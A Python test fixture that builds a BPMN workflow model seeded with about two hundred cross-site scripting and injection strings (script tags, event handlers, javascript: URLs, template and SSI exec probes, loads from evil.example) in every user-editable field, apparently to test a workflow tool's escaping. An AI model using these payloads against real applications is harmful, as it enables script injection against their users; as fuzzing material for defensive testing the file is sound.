"""Two hundred texts that try to run as script, and a model that carries each of them in every place where a person may write."""

import json
from xml.sax.saxutils import escape, quoteattr

OPENINGS = ["", '">', "'>", "-->", "]]>", "</text>", "</title>", "</textarea>", "</script>", '"} ']
"""How a text leaves the place it was put into."""

ACTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" oNeRrOr="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><img src=x onerror=alert(1)></template>",
]
ALONE = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}",
    "${alert(1)}",
    "#{alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    "__proto__",
    "<!--#exec cmd='id'-->",
    "<?php alert(1) ?>",
    "*/alert(1)/*",
    "';alert(1);'",
]
TEXTS = [opening + act for act in ACTS for opening in OPENINGS] + ALONE
CARDS = 5
"""The last so many steps have forms, which carry all the texts between them."""

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
SPACES = (
    f'xmlns:bpmn="{BPMN}" xmlns:clearway="urn:clearway:bpmn:1" xmlns:di="http://www.omg.org/spec/BPMN/20100524/DI"'
    ' xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:dd="http://www.omg.org/spec/DD/20100524/DI"'
    ' xmlns:h="http://www.w3.org/1999/xhtml"'
)


def hostile_model(process: str, *, in_ids: bool = False, broken: bool = False) -> str:
    """A fork into one step per text, a join and an end. `in_ids` puts the texts into the ids too, `broken` into conditions
    that are refused."""
    steps = [f"{text.replace(':', '.')} {number}" if in_ids else f"t{number}" for number, text in enumerate(TEXTS)]
    parts = ['<bpmn:startEvent id="start"/><bpmn:parallelGateway id="fork"/><bpmn:parallelGateway id="join"/>']
    parts += ['<bpmn:exclusiveGateway id="choice" default="else"/><bpmn:endEvent id="end"/>', _flow("begin", "start", "fork")]
    for number, (step, text) in enumerate(zip(steps, TEXTS, strict=True)):
        parts.append(_step(step, text, number))
        parts += [_flow(f"in{number}", "fork", step, text), _flow(f"out{number}", step, "join", text)]
    condition = f"1 + + {TEXTS[2]}" if broken else "x = " + json.dumps(TEXTS[2])
    parts.append(_flow("joined", "join", "choice"))
    parts.append(
        _flow("when", "choice", "end", "when", f"<bpmn:conditionExpression>{escape(condition)}</bpmn:conditionExpression>")
    )
    parts.append(_flow("else", "choice", "end"))
    notes = "".join(
        f'<bpmn:textAnnotation id="note{number}"><bpmn:text>{escape(text)}</bpmn:text></bpmn:textAnnotation>'
        for number, text in enumerate(TEXTS)
    )
    foreign = "<bpmn:extensionElements><h:script>alert(1)</h:script><h:img src='x' onerror='alert(1)'/></bpmn:extensionElements>"
    content = foreign + "".join(parts) + notes
    body = f'<bpmn:process id="{process}" name={quoteattr(TEXTS[2])} isExecutable="true">{content}</bpmn:process>'
    style = '<?xml-stylesheet type="text/xsl" href="data:text/xml,<x/>"?>'
    return (
        f'{style}<bpmn:definitions {SPACES} id="d" targetNamespace="urn:test">{body}{_drawing(process, steps)}</bpmn:definitions>'
    )


def _step(identity: str, text: str, number: int) -> str:
    form = json.dumps({"type": "object", "properties": _fields(number)}, ensure_ascii=False)
    return (
        f'<bpmn:userTask id={quoteattr(identity)} name={quoteattr(text)} clearway:role="maker">'
        f"<bpmn:documentation>{escape(text)}</bpmn:documentation>"
        f"<bpmn:extensionElements><clearway:form>{escape(form)}</clearway:form></bpmn:extensionElements></bpmn:userTask>"
    )


def _fields(number: int) -> dict[str, object]:
    """A card's share of the texts: as title, as description, as choice and as the value that is there at first."""
    card = len(TEXTS) - 1 - number
    if card >= CARDS:
        return {}
    return {
        f"f{place}": {"type": "string", "title": text, "x-title-en": text, "description": text, "default": text}
        | ({"enum": [text, "x"]} if place % 2 else {})
        for place, text in enumerate(TEXTS[card::CARDS])
    }


def _flow(identity: str, source: str, target: str, name: str = "", inside: str = "") -> str:
    ends = f"sourceRef={quoteattr(source)} targetRef={quoteattr(target)}"
    return f'<bpmn:sequenceFlow id="{identity}" name={quoteattr(name)} {ends}>{inside}</bpmn:sequenceFlow>'


def _drawing(process: str, steps: list[str]) -> str:
    ends = ("start", "fork", "join", "choice", "end")
    places = {step: (300 + number % 20 * 140, 100 + number // 20 * 200) for number, step in enumerate(steps)}
    places |= {name: (100 + number * 60, 40) for number, name in enumerate(ends)}
    places |= {f"note{number}": (300 + number % 20 * 140, 190 + number // 20 * 200) for number in range(len(steps))}
    shapes = []
    for identity, (x, y) in places.items():
        small = identity in ends
        box = f'<dc:Bounds x="{x}" y="{y}" width="{36 if small else 120}" height="{36 if small else 80}"/>'
        named = f"id={quoteattr('di ' + identity)} bpmnElement={quoteattr(identity)}"
        shapes.append(f"<di:BPMNShape {named}>{box}</di:BPMNShape>")
    edges = [("in", "fork", ""), ("out", "", "join")]
    for number, step in enumerate(steps):
        for prefix, source, target in edges:
            (x, y), (u, v) = places[source or step], places[target or step]
            line = f'<dd:waypoint x="{x}" y="{y}"/><dd:waypoint x="{u}" y="{v}"/>'
            shapes.append(f'<di:BPMNEdge id="e{prefix}{number}" bpmnElement="{prefix}{number}">{line}</di:BPMNEdge>')
    plane = f'<di:BPMNPlane id="plane" bpmnElement="{process}">{"".join(shapes)}</di:BPMNPlane>'
    return f'<di:BPMNDiagram id="diagram" name={quoteattr(TEXTS[0])}>{plane}</di:BPMNDiagram>'
